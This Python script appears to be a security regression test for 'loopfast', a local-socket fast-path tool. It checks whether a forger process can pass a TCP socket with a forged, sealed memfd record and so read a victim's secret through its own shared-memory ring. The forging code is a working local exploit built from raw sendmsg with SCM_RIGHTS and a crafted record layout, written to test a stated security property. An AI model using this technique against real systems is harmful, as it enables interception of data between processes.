# A forger hands a loopfast receiver a TCP socket connected to a server S
# that is not on the tier (S without loopfast; S under loopfast, tier uds) with a forged
# record that pairs it with a ring of the forger's own tier connection.
# docs/security.md: "the most a forger gets is its own connection read by
# the receiver through a ring it can write anyway, which is what sending
# that socket already gives it". Sending a plain TCP socket to S does not
# let the sender read what the receiver writes to S, nor write what the
# receiver reads as S's. Plain (no loopfast in the receiver): S gets the
# receiver's bytes; the forger sees none of them.
# Run: python3 forge_foreign_socket.py <loopfast binary> [old|new]
# (old: the descriptor order of branch pass, the record last; new: passrev's)
import os, socket, sys, struct, fcntl, ctypes, subprocess, time, textwrap, json

LOOPFAST = sys.argv[1]
LAYOUT = sys.argv[2] if len(sys.argv) > 2 else "new"   # "old": branch pass's (the record last)
SECRET = b"SECRET-FOR-S-0123456789"

server = textwrap.dedent("""
    import socket, sys
    l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen(4)
    print(l.getsockname()[1], flush=True)
    s, _ = l.accept(); s.sendall(b"hi"); s.settimeout(3); got = b""
    try:
        while len(got) < 64:
            d = s.recv(100)
            if not d: break
            got += d
    except socket.timeout:
        pass
    try:
        s.sendall(b"reply-from-S")
    except OSError:
        pass
    print(repr(got), flush=True)
""")
victim = textwrap.dedent("""
    import socket, sys, array, os
    path = sys.argv[1]
    u = socket.socket(socket.AF_UNIX); u.bind(path); u.listen(1)
    print("ready", flush=True)
    k, _ = u.accept()
    m, anc, fl, _ = k.recvmsg(1, socket.CMSG_SPACE(12))
    fds = array.array("i"); fds.frombytes(anc[0][2])
    s = socket.socket(fileno=fds[-1]); s.settimeout(3)
    s.sendall(b"SECRET-FOR-S-0123456789")
    try:
        r = s.recv(100)
    except Exception as e:
        r = type(e).__name__
    print(repr(r), flush=True)
""")
forger = textwrap.dedent("""
    import os, socket, sys, struct, fcntl, ctypes, time
    path, port = sys.argv[1], int(sys.argv[2])
    l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen(4)
    c = socket.create_connection(l.getsockname()); a, _ = l.accept()
    c.sendall(b"0"); assert a.recv(1) == b"0"; a.sendall(b"1"); assert c.recv(1) == b"1"   # X on the tier
    def link(f):
        try: return os.readlink(f"/proc/self/fd/{f}")
        except OSError: return ""
    ring = next(int(f) for f in os.listdir("/proc/self/fd") if link(f).startswith("/memfd:loopfast-shm"))
    t = socket.create_connection(("127.0.0.1", port))      # TCP to S, off the tier
    assert t.recv(2) == b"hi"                               # settled: S's answer read
    MAGIC, SEALS = 0x3173736150664c, 15
    rec = struct.pack("<QQQIiIBBH", os.fstat(t.fileno()).st_ino, os.fstat(ring).st_ino, 0, 0, 1, 0, ord("s"), 8, 0)
    f = os.memfd_create("loopfast-pass", os.MFD_CLOEXEC | os.MFD_ALLOW_SEALING)
    os.write(f, struct.pack("<QII", MAGIC, 1, 1) + rec); fcntl.fcntl(f, 1033, SEALS)
    libc = ctypes.CDLL(None, use_errno=True)
    class iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_char_p), ("len", ctypes.c_size_t)]
    class msghdr(ctypes.Structure):
        _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint), ("iov", ctypes.POINTER(iovec)),
                    ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                    ("flags", ctypes.c_int)]
    u = socket.socket(socket.AF_UNIX); u.connect(path)
    fds = [f, ring, t.fileno()] if sys.argv[3] == "new" else [t.fileno(), ring, f]   # passrev: the record first; pass: last
    body = struct.pack("3i", *fds)
    cm = ctypes.create_string_buffer(socket.CMSG_SPACE(len(body)))
    struct.pack_into("Qii", cm, 0, socket.CMSG_LEN(len(body)), socket.SOL_SOCKET, socket.SCM_RIGHTS)
    ctypes.memmove(ctypes.addressof(cm) + 16, body, len(body))
    io = iovec(b"x", 1)
    m = msghdr(None, 0, ctypes.pointer(io), 1, ctypes.addressof(cm), len(cm), 0)
    assert libc.syscall(46, u.fileno(), ctypes.byref(m), 0) == 1, ctypes.get_errno()   # raw sendmsg
    t.close()                                       # the forger keeps no copy of the TCP socket
    seen = False
    for _ in range(30):
        time.sleep(0.1)
        seen = b"SECRET-FOR-S" in os.pread(ring, os.fstat(ring).st_size, 0)
        if seen: break
    print("forger-reads-secret-from-its-ring" if seen else "forger-sees-nothing", flush=True)
""")

def run(victim_lf, s_tier=None):
    path = f"/tmp/passrev-forge-{os.getpid()}-{victim_lf}-{s_tier}"
    if os.path.exists(path): os.unlink(path)
    scmd = [sys.executable, "-c", server]
    S = subprocess.Popen([LOOPFAST, "run", "--tier", s_tier, "--"] + scmd if s_tier else scmd, stdout=subprocess.PIPE, text=True)
    port = S.stdout.readline().strip()
    vcmd = [sys.executable, "-c", victim, path]
    V = subprocess.Popen([LOOPFAST, "run", "--tier", "shm", "--"] + vcmd if victim_lf else vcmd, stdout=subprocess.PIPE, text=True)
    assert V.stdout.readline().strip() == "ready"
    F = subprocess.run([LOOPFAST, "run", "--tier", "shm", "--", sys.executable, "-c", forger, path, port, LAYOUT],
                       capture_output=True, text=True, timeout=30)
    print("victim", "loopfast" if victim_lf else "plain", "| S", s_tier or "plain", "| S got", S.stdout.readline().strip(),
          "| victim read", V.stdout.readline().strip(), "|", F.stdout.strip() or F.stderr[-300:])
    S.wait(10); V.wait(10)

run(False)
run(True)
run(False, "uds")   # S runs loopfast off the tier: the forger's socket to it is a fast-path one
run(True, "uds")
